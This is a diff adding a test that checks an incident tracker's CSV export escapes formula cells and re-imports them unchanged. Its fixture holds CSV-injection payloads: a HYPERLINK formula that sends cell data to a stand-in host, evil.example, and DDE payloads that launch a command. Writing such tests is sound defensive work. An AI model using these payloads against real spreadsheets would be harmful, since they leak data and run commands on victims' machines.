@@ -88,3 +88,40 @@ def test_an_export_with_a_wrong_filter_is_refused(client: TestClient) -> None:
     response = client.get("/incidents/export.csv", params={"victim_country": "Narnia"})
     assert response.status_code == 422
     assert "Narnia" in response.text
+
+
+DANGEROUS = {
+    "title": '=HYPERLINK("https://evil.example/?"&A1, "Click")',
+    "summary": "+cmd|' /C calc'!A0",
+    "start": "2021",
+    "types": ["ransomware"],
+    "victims": {"organisations": [{"name": "@SUM(1+1)*cmd"}, {"name": "Plain Org"}]},
+    "sources": [{"title": "-2+3+cmd|' /C calc'!A0"}],
+}
+
+
+def test_csv_export_cells_cannot_run_as_formulas_and_import_back_unchanged(
+    fresh_toolbox: Toolbox, fresh_client: TestClient, empty_toolbox: Toolbox, tmp_path: Path
+) -> None:
+    quoted = {**DANGEROUS, "title": "'Tis a quoted title", "start": "2022"}
+    fresh_toolbox.incidents.add([DANGEROUS, quoted])
+    response = fresh_client.get("/incidents/export.csv", params={"since": "2021"})
+    rows = [row for row in csv.DictReader(io.StringIO(response.text)) if row["start"] >= "2021"]
+    cells = [cell for row in rows for cell in row.values() if cell]
+    assert not [cell for cell in cells if cell[0] in "=+-@\t\r"]
+    by_start = {row["start"]: row for row in rows}
+    assert by_start["2021"]["title"] == "'" + DANGEROUS["title"]
+    assert by_start["2021"]["summary"] == "'" + DANGEROUS["summary"]
+    assert by_start["2021"]["victim_organisations"] == "'@SUM(1+1)*cmd; Plain Org"
+    assert by_start["2021"]["source_title"] == "'-2+3+cmd|' /C calc'!A0"
+    assert by_start["2022"]["title"] == "''Tis a quoted title"
+
+    exported = tmp_path / "incidents.csv"
+    exported.write_bytes(response.content)
+    with empty_toolbox:
+        created = {i.title: i for i in empty_toolbox.incidents.import_csv(exported).created}
+    copy = created[DANGEROUS["title"]]
+    assert copy.summary == DANGEROUS["summary"]
+    assert [org.name for org in copy.victim_organisations] == ["@SUM(1+1)*cmd", "Plain Org"]
+    assert copy.sources[0].title == DANGEROUS["sources"][0]["title"]
+    assert "'Tis a quoted title" in created
